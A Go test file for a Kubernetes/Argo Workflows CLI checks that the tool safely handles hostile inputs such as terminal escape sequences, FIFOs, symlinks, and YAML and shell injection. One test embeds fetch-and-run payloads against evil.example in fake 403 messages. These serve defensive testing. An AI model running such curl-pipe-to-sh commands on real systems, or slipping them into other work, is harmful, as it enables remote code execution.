package cli

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	yaml "go.yaml.in/yaml/v3"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/appflowc/appflowc/apply"
	"github.com/appflowc/appflowc/internal/fakeapi"
)

// Tests by the hostile tester (hostile18b).

// TestForbiddenNextStepIsEscaped: a 403 whose message is the cluster's text has its verb,
// resource and namespace copied by apply.Diagnose into the "next:" line (kubectl auth
// can-i VERB RESOURCE -n NS); Main printed that line unescaped, so the cluster's escape
// sequences reached the terminal.
func TestForbiddenNextStepIsEscaped(t *testing.T) {
	c := newCluster(t)
	c.Fail(fakeapi.Fault{Kind: fakeapi.Error, Code: 403, Verb: "list", Resource: "workflows",
		Message: "workflows.argoproj.io is forbidden: User \"x\" cannot li\x1b]0;pwned\x07st resource \"work\x1b[2Jflows\" in API group \"argo\x1b[31mproj.io\" in the namespace \"ar\x9b31mgo\""})
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	code, out, errOut := c.run(t, ctx, "list")
	if code == ExitOK || out != "" {
		t.Errorf("list against a 403: exit %d, stdout %q", code, out)
	}
	if !strings.Contains(errOut, "next:") {
		t.Fatalf("no next step for a 403:\n%s", errOut)
	}
	clean(t, "list's stderr on a hostile 403", errOut)
}

// TestServerErrorsAreNotTransportErrors: the API server answered (a Status, here a 500
// from a failing admission webhook, as real clusters give), but Diagnose matches
// "connection refused", "x509:", "Client.Timeout exceeded" anywhere in the message, the
// server's text included, and tells the user the API server cannot be reached, its
// certificate is not trusted, or it did not answer in time. The webhook's own failure is
// none of those: the kubeconfig is fine.
func TestServerErrorsAreNotTransportErrors(t *testing.T) {
	for _, msg := range []string{
		`failed calling webhook "validate.example.com": failed to call webhook: Post "https://webhook.sys.svc:443/validate?timeout=10s": dial tcp 10.96.12.3:443: connect: connection refused`,
		`failed calling webhook "validate.example.com": failed to call webhook: Post "https://webhook.sys.svc:443/validate?timeout=10s": tls: failed to verify certificate: x509: certificate signed by unknown authority`,
		`failed calling webhook "validate.example.com": failed to call webhook: Post "https://webhook.sys.svc:443/validate?timeout=10s": net/http: request canceled while waiting for connection (Client.Timeout exceeded while awaiting headers)`,
		`etcdserver: no route to host`,
	} {
		err := apierrors.NewInternalError(errors.New(msg))
		switch d := apply.Diagnose(err); d.Trouble {
		case apply.Unreachable, apply.TLSUntrusted, apply.TimedOut:
			t.Errorf("a 500 from the API server (%s) diagnosed as trouble %d: %s", msg, d.Trouble, d.Next)
		}
	}
	// The same through the CLI against a server that answers.
	c := newCluster(t)
	c.Fail(fakeapi.Fault{Kind: fakeapi.Error, Code: 500, Verb: "list", Resource: "workflows",
		Message: `Internal error occurred: failed calling webhook "v.example.com": dial tcp 10.96.0.1:443: connect: connection refused`})
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	_, _, errOut := c.run(t, ctx, "list")
	if strings.Contains(errOut, "cannot reach the API server") {
		t.Errorf("an API server that answered 500 is said to be unreachable:\n%s", errOut)
	}
}

// TestUserConfigFIFOIsNotReadForever: APPFLOWC_CONFIG naming a FIFO (or a device) was
// read with os.ReadFile: a FIFO nobody writes hangs every command before it starts, and a
// stream (a FIFO, /dev/zero, /dev/urandom) is read whole before the 64 KiB bound is
// checked, so memory is unbounded (/dev/zero grows until the OOM killer). The file must
// be a regular file, read through a limit of maxUserConfig+1.
func TestUserConfigFIFOIsNotReadForever(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "config.yaml")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Skipf("no FIFO here: %v", err)
	}
	env := []string{"HOME=" + dir, "APPFLOWC_CONFIG=" + fifo, "PATH=" + os.Getenv("PATH")}

	// A FIFO with a writer that offers 16 MiB: the reader must stop near 64 KiB.
	var written int64
	wdone := make(chan struct{})
	go func() {
		defer close(wdone)
		f, err := os.OpenFile(fifo, os.O_WRONLY, 0)
		if err != nil {
			return
		}
		defer f.Close()
		chunk := bytes.Repeat([]byte("# padding padding padding\n"), 4096)
		for written < 16<<20 {
			n, err := f.Write(chunk)
			written += int64(n)
			if err != nil {
				return
			}
		}
	}()
	done := make(chan int, 1)
	go func() {
		var o, e bytes.Buffer
		done <- RunEnv(context.Background(), []string{"config", "view"}, env, &o, &e)
	}()
	select {
	case code := <-done:
		// A fix that refuses the FIFO without opening it leaves the writer waiting for
		// a reader: release it (an O_RDWR open never blocks on Linux).
		select {
		case <-wdone:
		case <-time.After(time.Second):
			if f, err := os.OpenFile(fifo, os.O_RDWR, 0); err == nil {
				f.Close()
			}
			<-wdone
		}
		if code != ExitUsage {
			t.Errorf("config view of a FIFO: exit %d, want %d", code, ExitUsage)
		}
		if written > 1<<20 {
			t.Errorf("config view read %d bytes of a user config bounded to %d", written, maxUserConfig)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("config view hung on a FIFO being written")
	}

	// A FIFO nobody writes: refused at once, not waited on.
	go func() {
		var o, e bytes.Buffer
		done <- RunEnv(context.Background(), []string{"config", "view"}, env, &o, &e)
	}()
	select {
	case code := <-done:
		if code != ExitUsage {
			t.Errorf("config view of a FIFO with no writer: exit %d, want %d", code, ExitUsage)
		}
	case <-time.After(3 * time.Second):
		// Unblock the reader before failing: O_RDWR never blocks on Linux.
		if f, err := os.OpenFile(fifo, os.O_RDWR, 0); err == nil {
			time.Sleep(100 * time.Millisecond)
			f.Close()
		}
		select {
		case <-done:
		case <-time.After(5 * time.Second):
		}
		t.Error("config view hung on a FIFO nobody writes")
	}
}

// TestUserConfigOutputKeyTwice: a key given twice at the top is refused ("key given
// twice"), but output: {list: wide, list: json} was taken silently, the last one winning.
func TestUserConfigOutputKeyTwice(t *testing.T) {
	_, err := parseUserConfig("c.yaml", []byte("output:\n  list: wide\n  list: json\n"))
	if err == nil || !strings.Contains(err.Error(), "c.yaml:3:3") || !strings.Contains(err.Error(), "twice") {
		t.Errorf("output.list given twice: %v, want c.yaml:3:3 ... key given twice", err)
	}
}

// initInRepo runs init for the config directory name under a fresh repository root and
// returns the root.
func initInRepo(t *testing.T, name string) (string, error) {
	t.Helper()
	root := t.TempDir()
	if err := os.Mkdir(filepath.Join(root, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	return root, runInit(io.Discard, filepath.Join(root, name), false)
}

// argvOf runs cmdline as sh would with appflowc replaced by printf, and returns the
// arguments appflowc would get.
func argvOf(t *testing.T, cmdline string) []string {
	t.Helper()
	rest, ok := strings.CutPrefix(cmdline, "appflowc ")
	if !ok {
		t.Fatalf("not an appflowc command: %q", cmdline)
	}
	cmd := exec.Command("sh", "-c", `printf '%s\0' `+rest)
	cmd.Dir = t.TempDir()
	cmd.Env = []string{"PATH=" + os.Getenv("PATH")}
	out, err := cmd.Output()
	if err != nil {
		return []string{"<sh: " + err.Error() + ">"}
	}
	return strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
}

// TestInitQuotesTheConfigPath: inside a repository, init writes the config's path from the
// root into .pre-commit-config.yaml (entry:, files:) and the CI job (run:) as is. A path
// with a space is split into two arguments by pre-commit and the shell; one with " #"
// is cut at a YAML comment; a newline injects YAML keys; $(...) runs in CI on every pull
// request. Each must reach appflowc as the one argument it is (quoted for the shell and
// for YAML), or init must refuse the name.
func TestInitQuotesTheConfigPath(t *testing.T) {
	for _, name := range []string{"my deploy", "a #b", "x$(echo INJECTED)", "q'uote", "new\nline: injected"} {
		root, err := initInRepo(t, name)
		if err != nil {
			continue // refusing the name is fine
		}
		ci, err := os.ReadFile(filepath.Join(root, ".github/workflows/appflowc.yaml"))
		if err != nil {
			t.Fatal(err)
		}
		var job struct {
			Jobs struct {
				Check struct {
					Steps []struct{ Run string }
				}
			}
		}
		if err := yaml.Unmarshal(ci, &job); err != nil {
			t.Errorf("init %q: the CI job is not YAML: %v\n%s", name, err, ci)
			continue
		}
		var vet string
		for _, s := range job.Jobs.Check.Steps {
			if strings.HasPrefix(s.Run, "appflowc vet") {
				vet = s.Run
			}
		}
		if got := argvOf(t, vet); len(got) < 2 || got[1] != name {
			t.Errorf("init %q: the CI job runs %q: appflowc gets %q", name, vet, got)
		}
		pc, err := os.ReadFile(filepath.Join(root, ".pre-commit-config.yaml"))
		if err != nil {
			t.Fatal(err)
		}
		var hooks struct {
			Repos []struct {
				Hooks []struct{ Entry, Files string }
			}
		}
		if err := yaml.Unmarshal(pc, &hooks); err != nil || len(hooks.Repos) != 1 || len(hooks.Repos[0].Hooks) != 1 {
			t.Errorf("init %q: the pre-commit config is not one hook: %v\n%s", name, err, pc)
			continue
		}
		if got := argvOf(t, hooks.Repos[0].Hooks[0].Entry); len(got) < 2 || got[1] != name {
			t.Errorf("init %q: the hook's entry %q gives appflowc %q", name, hooks.Repos[0].Hooks[0].Entry, got)
		}
	}
}

// TestInitDoesNotWriteThroughPlantedSymlinks: the repository is untrusted; a .github
// that is a symbolic link to a directory elsewhere had init write workflows/appflowc.yaml
// there (MkdirAll and O_EXCL guard the last component only), and so did a cue.mod link
// in the config directory (the existence check Lstat's the file, not its parents).
func TestInitDoesNotWriteThroughPlantedSymlinks(t *testing.T) {
	for _, link := range []string{".github", "deploy/cue.mod"} {
		root := t.TempDir()
		outside := t.TempDir()
		if err := os.MkdirAll(filepath.Join(root, ".git"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll(filepath.Join(root, "deploy"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(outside, filepath.Join(root, link)); err != nil {
			t.Fatal(err)
		}
		_ = runInit(io.Discard, filepath.Join(root, "deploy"), false)
		var found []string
		filepath.WalkDir(outside, func(p string, d os.DirEntry, err error) error {
			if err == nil && p != outside {
				found = append(found, strings.TrimPrefix(p, outside))
			}
			return nil
		})
		if len(found) > 0 {
			t.Errorf("init with %s a symlink out of the repository wrote there: %v", link, found)
		}
	}
}

// TestClientDryRunOfAMissingWorkflow: delete NAME --dry-run=client printed
// "Workflow/argo/nope deleted (client dry run)" and exit 0 for a workflow that is not
// there; without --dry-run, and with --dry-run=server, the same command fails (not
// found). kubectl delete --dry-run=client reads the objects first and says NotFound. A
// dry run must predict the real run: named workflows are read (GET) and a missing one is
// the same error as without the dry run.
func TestClientDryRunOfAMissingWorkflow(t *testing.T) {
	c := newCluster(t)
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	realCode, _, _ := c.run(t, ctx, "delete", "nope")
	code, out, errOut := c.run(t, ctx, "delete", "nope", "--dry-run=client")
	if code != realCode || strings.Contains(out, "deleted") {
		t.Errorf("delete nope --dry-run=client: exit %d (without the dry run: %d), stdout %q, stderr %q", code, realCode, out, errOut)
	}
}

// TestMissingNamedObjectIsExitOne: the exit-code table says a named workflow that is not
// there is exit 1 (status, logs, wait, watch, the control commands: kubectl get's), but
// delete NAME, graph --workflow NAME, templates get NAME and templates delete NAME
// exited 2 ("usage or environment") for the same 404: a script cannot tell "already
// gone" from "no cluster". Each should be 1 (and the table name them).
func TestMissingNamedObjectIsExitOne(t *testing.T) {
	c := newCluster(t)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	for _, args := range [][]string{{"status", "nope"}, {"delete", "nope"}, {"delete", "nope", "--dry-run=server"},
		{"graph", "--workflow", "nope"}, {"templates", "get", "nope"}, {"templates", "delete", "nope"}} {
		if code, out, errOut := c.run(t, ctx, args...); code != ExitFailed || out != "" {
			t.Errorf("%s of a missing object: exit %d, stdout %q, want exit %d\n%s", strings.Join(args, " "), code, out, ExitFailed, errOut)
		}
	}
}

// TestZeroAgeIsRefused: parseAge says a zero age is refused, and 0s, 0m are; but 0d was
// taken (the days branch returns before the check), and list --older 0d then filtered
// nothing at all (older.d > 0 is false): running workflows listed as "finished longer
// ago than 0d".
func TestZeroAgeIsRefused(t *testing.T) {
	for _, v := range []string{"0s", "0d", "00d", "0d0h"} {
		if d, err := parseAge(v); err == nil {
			t.Errorf("parseAge(%q) = %v, nil; want an error (a zero age)", v, d)
		}
	}
}

// TestCompletionKnowsWorkflowSlashName: every command takes workflow/NAME, but completion
// neither completes after workflow/ (kubectl completes pod/<TAB>) nor knows a
// workflow/NAME already on the line: delete workflow/wf-a <TAB> offered wf-a again
// ("each name once").
func TestCompletionKnowsWorkflowSlashName(t *testing.T) {
	c := newCluster(t)
	c.Put("workflows", workflow("wf-a", map[string]any{"phase": "Running"}))
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	complete := func(args ...string) []string {
		var o, e bytes.Buffer
		RunEnv(ctx, append([]string{"__complete", "--kubeconfig", c.kubeconfig}, args...), c.env, &o, &e)
		var names []string
		for _, l := range strings.Split(strings.TrimSpace(o.String()), "\n") {
			if !strings.HasPrefix(l, ":") {
				names = append(names, strings.Split(l, "\t")[0])
			}
		}
		return names
	}
	if got := complete("delete", "workflow/wf-a", ""); len(got) != 0 {
		t.Errorf("delete workflow/wf-a <TAB> offers %q again", got)
	}
	if got := complete("status", "workflow/"); len(got) != 1 || got[0] != "workflow/wf-a" {
		t.Errorf("status workflow/<TAB> = %q, want [workflow/wf-a]", got)
	}
}

// TestConfigViewOfHostileStrings: the user config may be a team's file in a repository
// (APPFLOWC_CONFIG=./team.yaml, config view's own example). Its context and kubeconfig
// strings are taken with any characters; with a C1 control (context:
// "\e]0;x\a\x9b31m"), config view wrote its two header lines to stdout and then failed
// (exit 2, "appflowc: yaml: control characters are not allowed": no file, no position).
// A failing config view must write nothing on stdout; the file's string should be
// refused when the file is read, at its file:line:col (or shown escaped).
func TestConfigViewOfHostileStrings(t *testing.T) {
	dir := t.TempDir()
	for _, content := range []string{
		"context: \"\\e]0;pwned\\a\\x9b31m\"\n",
	} {
		p := filepath.Join(dir, "config.yaml")
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		var o, e bytes.Buffer
		code := RunEnv(context.Background(), []string{"config", "view"}, []string{"HOME=" + dir, "APPFLOWC_CONFIG=" + p}, &o, &e)
		clean(t, "config view's stderr", e.String())
		if code != ExitOK && o.Len() > 0 {
			t.Errorf("config view of %q: exit %d with %q on stdout", content, code, o.String())
		}
		if code != ExitOK && !strings.Contains(e.String(), p+":1:") {
			t.Errorf("config view of %q: exit %d without the position: %q", content, code, e.String())
		}
	}
}

// TestNotAnAPIServerIsNotMissingCRDs: the kubeconfig points at something that is no
// Kubernetes API server (a proxy or web server answering an HTML 404 to every path,
// /version and /apis included). list, status and templates list said "the cluster does
// not serve workflows.argoproj.io (Argo Workflows' CRDs are not installed)" and "next:
// install Argo Workflows", while apply's pre-flight said the cluster does not answer.
// Installing Argo would not help: a 404 is a missing CRD only when discovery says so.
func TestNotAnAPIServerIsNotMissingCRDs(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.WriteHeader(http.StatusNotFound)
		fmt.Fprint(w, "<html><head><title>404 Not Found</title></head><body><center><h1>404 Not Found</h1></center><hr><center>nginx</center></body></html>")
	}))
	defer srv.Close()
	dir := t.TempDir()
	kc := filepath.Join(dir, "kubeconfig")
	if err := os.WriteFile(kc, []byte(fmt.Sprintf("apiVersion: v1\nkind: Config\nclusters: [{name: c, cluster: {server: %q}}]\nusers: [{name: u, user: {token: t}}]\ncontexts: [{name: c, context: {cluster: c, user: u}}]\ncurrent-context: c\n", srv.URL)), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"list"}, {"status", "x"}, {"templates", "list"}} {
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		var o, e bytes.Buffer
		code := RunEnv(ctx, append(args, "--kubeconfig", kc, "--request-timeout", "3s"), []string{"HOME=" + dir, "APPFLOWC_CONFIG=" + filepath.Join(dir, "none"), "APPFLOWC_NO_CACHE=1"}, &o, &e)
		cancel()
		if code != ExitUsage || strings.Contains(e.String(), "CRDs are not installed") || strings.Contains(e.String(), "install Argo Workflows") {
			t.Errorf("%s against an nginx 404: exit %d\n%s", strings.Join(args, " "), code, e.String())
		}
	}
}

// TestInitForceDoesNotWriteThroughASymlink: init --force "overwrites files that exist",
// with O_TRUNC on the path: a config directory (a cloned repository) whose app.cue is a
// symbolic link to a file elsewhere had that file truncated and replaced by the example
// app. --force should replace the link (write a temporary file beside it and rename),
// never the file it points at; the same write-then-rename keeps a file from being left
// half-written.
func TestInitForceDoesNotWriteThroughASymlink(t *testing.T) {
	dir := t.TempDir()
	victim := filepath.Join(t.TempDir(), "victim")
	if err := os.WriteFile(victim, []byte("precious\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(victim, filepath.Join(dir, "app.cue")); err != nil {
		t.Fatal(err)
	}
	_ = runInit(io.Discard, dir, true)
	if got, _ := os.ReadFile(victim); string(got) != "precious\n" {
		t.Errorf("init --force wrote through app.cue's symlink into %s:\n%.80s", victim, got)
	}
}

// TestForbiddenNextStepIsNoShellInjection: Diagnose builds a command line for the user to
// run (check with: kubectl auth can-i VERB RESOURCE -n NS) from the 403's message, which
// is the API server's (or a proxy's) text: \S+ and [^"]+ take anything, so a hostile
// message puts "; curl … | sh" or $(…) into a command appflowc tells the user to paste
// into a shell. Escaping control characters does not help; the verb, resource, group and
// namespace must be names (a DNS label/subdomain, a verb's letters), else the generic
// kubectl auth can-i --list.
func TestForbiddenNextStepIsNoShellInjection(t *testing.T) {
	for _, msg := range []string{
		`workflows.argoproj.io is forbidden: User "x" cannot list resource "workflows" in API group "argoproj.io" in the namespace "argo; curl -s https://evil.example/x | sh; echo "`,
		`workflows.argoproj.io is forbidden: User "x" cannot $(curl${IFS}-s${IFS}evil.example|sh) resource "workflows" in API group "argoproj.io"`,
		`workflows.argoproj.io is forbidden: User "x" cannot list resource "workflows $(id)" in API group "argoproj.io"`,
		`workflows.argoproj.io is forbidden: User "x" cannot list resource "workflows" in API group "x.io --as=system:admin" in the namespace "argo"`,
	} {
		d := apply.Diagnose(apierrors.NewForbidden(schema.GroupResource{Group: "argoproj.io", Resource: "workflows"}, "", errors.New(msg)))
		if d.Trouble != apply.Forbidden {
			t.Fatalf("a 403 diagnosed as %d", d.Trouble)
		}
		for _, bad := range []string{";", "$(", "|", "--as", "`"} {
			if strings.Contains(d.Next, bad) {
				t.Errorf("next step built from a hostile 403 holds %q: %s", bad, d.Next)
				break
			}
		}
	}
}

// TestClientCertificateRefusedIsNotServerUntrusted: when the API server refuses the
// kubeconfig's client certificate (kubeadm's expire after a year: "remote error: tls:
// expired certificate"; a certificate from another cluster: "remote error: tls: bad
// certificate"), Diagnose said the server's certificate is not trusted and to check the
// server URL and certificate-authority, which are fine. A "remote error: tls: …" is the
// server's alert about the client: the next step is the client certificate
// (client-certificate-data, renew it: kubeadm certs renew, or log in again).
func TestClientCertificateRefusedIsNotServerUntrusted(t *testing.T) {
	for _, alert := range []string{"remote error: tls: expired certificate", "remote error: tls: bad certificate", "remote error: tls: unknown certificate authority"} {
		err := &url.Error{Op: "Get", URL: "https://10.0.0.1:6443/version", Err: errors.New(alert)}
		d := apply.Diagnose(err)
		if !strings.Contains(d.Next, "client") {
			t.Errorf("%s: next step %q does not point at the client certificate", alert, d.Next)
		}
	}
}
